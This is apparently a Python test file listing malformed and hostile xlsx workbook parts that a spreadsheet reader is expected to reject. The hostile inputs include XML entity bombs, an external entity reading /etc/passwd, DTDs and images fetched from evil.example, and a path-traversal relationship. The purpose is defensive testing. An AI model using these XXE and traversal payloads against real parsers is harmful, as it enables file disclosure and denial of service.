"""XML and packages that are damaged, or made to harm."""

from dataclasses import replace

from tests.core.spreadsheets.corpus.case import Case, bad
from tests.core.spreadsheets.corpus.plain import BOOK, FILE, FILES, PLAIN, SHEET, A, with_parts
from tests.core.spreadsheets.making import (
    HEADER,
    MAIN,
    Book,
    cell,
    external,
    links,
    row,
    sheet,
    text,
)

ENTITIES = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">{}]>'.format(
    "".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(9))
)
DECLARES = "declares what workbooks never declare"

XML = [
    bad(
        "entity bomb",
        FILE,
        with_parts(sheet=ENTITIES + sheet(HEADER, row(text("A").replace(">A<", ">&j;<")))),
        DECLARES,
    ),
    bad(
        "quadratic entities",
        FILE,
        with_parts(sheet=f'<!DOCTYPE x [<!ENTITY a "{"x" * 9999}">]>' + sheet(HEADER, A)),
        DECLARES,
    ),
    bad(
        "entity of a file",
        FILE,
        with_parts(
            sheet='<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
            + sheet(HEADER, row(text("A").replace(">A<", ">&a;<")))
        ),
        DECLARES,
    ),
    bad(
        "entity of the network",
        FILE,
        with_parts(book='<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">' + FILES[BOOK].decode()),
        DECLARES,
    ),
    bad(
        "parameter entities",
        FILE,
        with_parts(styles='<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/">%a;]><x/>'),
        DECLARES,
    ),
    bad("declarations in texts", FILE, with_parts(strings=f'<!DOCTYPE x><sst xmlns="{MAIN}"/>'), DECLARES),
    bad("declarations in types", FILE, with_parts(**{"[Content_Types].xml": "<!DOCTYPE x><Types/>"}), DECLARES),
    bad("declarations in links", FILE, with_parts(**{"_rels/.rels": "<!DOCTYPE x><Relationships/>"}), DECLARES),
    bad(
        "XML in an encoding of its own",
        FILE,
        with_parts(sheet='<?xml version="1.0" encoding="utf-7"?>' + sheet(HEADER, A)),
        "is damaged (xl/worksheets/sheet1.xml)",
    ),
    bad("XML that stops", FILE, with_parts(sheet=sheet(HEADER, A)[:-20]), "is damaged (xl/worksheets/sheet1.xml)"),
    bad("no XML", FILE, with_parts(sheet=b"\x00\x01\x02"), "is damaged"),
    bad("empty part", FILE, with_parts(sheet=""), "is damaged"),
    bad(
        "deep elements",
        FILE,
        with_parts(sheet=sheet(HEADER, A, before="<x>" * 5000 + "</x>" * 5000)),
        "too much formatting",
    ),
    bad(
        "rows out of order",
        FILE,
        with_parts(sheet=sheet('<row r="2"></row>', '<row r="1"></row>')),
        "out of order at row 1",
    ),
    bad("row twice", FILE, with_parts(sheet=sheet('<row r="2"></row>', '<row r="2"></row>')), "out of order at row 2"),
    bad("row beyond the last", FILE, with_parts(sheet=sheet('<row r="1048577"></row>')), "is damaged"),
    bad("row without end", FILE, with_parts(sheet=sheet(f'<row r="{"9" * 5000}"></row>')), "is damaged"),
    bad("row below the first", FILE, with_parts(sheet=sheet('<row r="-1"></row>')), "is damaged"),
    bad(
        "cells out of order",
        FILE,
        with_parts(sheet=sheet('<row r="1"><c r="B1"/><c r="A1"/></row>')),
        "out of order at row 1",
    ),
    bad("cell of another row", FILE, with_parts(sheet=sheet('<row r="1"><c r="A9"/></row>')), "out of order at row 1"),
    bad(
        "cell beyond the last column",
        FILE,
        with_parts(sheet=sheet('<row r="1"><c r="XFE1"/></row>')),
        "out of order at row 1",
    ),
    bad("cell of no name", FILE, with_parts(sheet=sheet('<row r="1"><c r="$A$1"/></row>')), "out of order at row 1"),
    bad("style that is no number", FILE, with_parts(sheet=sheet(row("<c s='x'><v>1</v></c>"))), "is damaged"),
]

PARTS = [
    bad(
        "sheet that is missing", FILE, replace(PLAIN, without=[SHEET]).packed(), "is missing (xl/worksheets/sheet1.xml)"
    ),
    bad("workbook that is missing", FILE, replace(PLAIN, without=[BOOK]).packed(), "is missing (xl/workbook.xml)"),
    bad("links that are missing", FILE, replace(PLAIN, without=["_rels/.rels"]).packed(), "is missing (_rels/.rels)"),
    bad(
        "links of the workbook that are missing",
        FILE,
        replace(PLAIN, without=["xl/_rels/workbook.xml.rels"]).packed(),
        "is missing",
    ),
    bad(
        "link that is missing",
        FILE,
        with_parts(**{"xl/_rels/workbook.xml.rels": links([])}),
        "is missing (Stations)",
    ),
    bad(
        "sheet outside of the package",
        FILE,
        with_parts(
            **{
                "xl/_rels/workbook.xml.rels": FILES["xl/_rels/workbook.xml.rels"].replace(
                    b"worksheets/sheet1.xml", b"../../../etc/passwd"
                )
            }
        ),
        "is missing (../../etc/passwd)",
    ),
    bad(
        "shared texts that are missing",
        FILE,
        Book([("Stations", "visible", sheet(row(cell("s", "0"))))]).packed(),
        "cannot be read",
        column="A",
        value="0",
    ),
    bad(
        "links to other workbooks",
        FILE,
        with_parts(**{"xl/externalLinks/externalLink1.xml": "<x/>"}),
        "takes data from other files",
    ),
    bad("data of the network", FILE, with_parts(**{"xl/connections.xml": "<x/>"}), "takes data from other files"),
    bad(
        "picture of the network",
        FILE,
        with_parts(**{"xl/drawings/_rels/drawing1.xml.rels": external("image", "http://evil.example/x.png")}),
        "takes data from other files",
    ),
    bad(
        "sheet of the network",
        FILE,
        with_parts(**{"xl/_rels/workbook.xml.rels": external("worksheet", "http://evil.example/sheet.xml")}),
        "takes data from other files",
    ),
    bad(
        "another document inside",
        FILE,
        with_parts(**{"xl/embeddings/oleObject1.bin": b"x"}),
        "other documents or controls",
    ),
    bad("controls", FILE, with_parts(**{"xl/activeX/activeX1.xml": "<x/>"}), "other documents or controls"),
]

CASES: list[Case] = [*XML, *PARTS]
